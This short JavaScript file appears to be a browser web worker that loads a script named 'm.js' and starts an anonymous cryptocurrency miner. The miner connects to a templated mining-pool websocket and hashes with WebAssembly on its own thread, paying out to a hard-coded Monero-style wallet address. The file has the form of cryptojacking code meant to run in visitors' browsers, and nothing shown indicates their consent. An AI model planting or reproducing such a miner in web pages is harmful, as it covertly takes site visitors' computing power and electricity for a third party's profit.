// A dedicated worker that opens the pool socket itself and hashes with wasm on its own thread.
importScripts('/static/m.js');
Miner.Anonymous('corpus-line-worker-socket', {pool: '{{POOL_WS}}', dialect: 'line',
  wallet: '4AXCoeLDyoTqnqHbGhupYPTaogELbnNa5orxEmqoWnvxiAbExT4rPhTW8op9qMRNPsDMUTMdEzxTFE3pFq2xHwZMrdtnTg8.line-worker-socket', inline: true, wasm: true, base: '/static/'}).start();
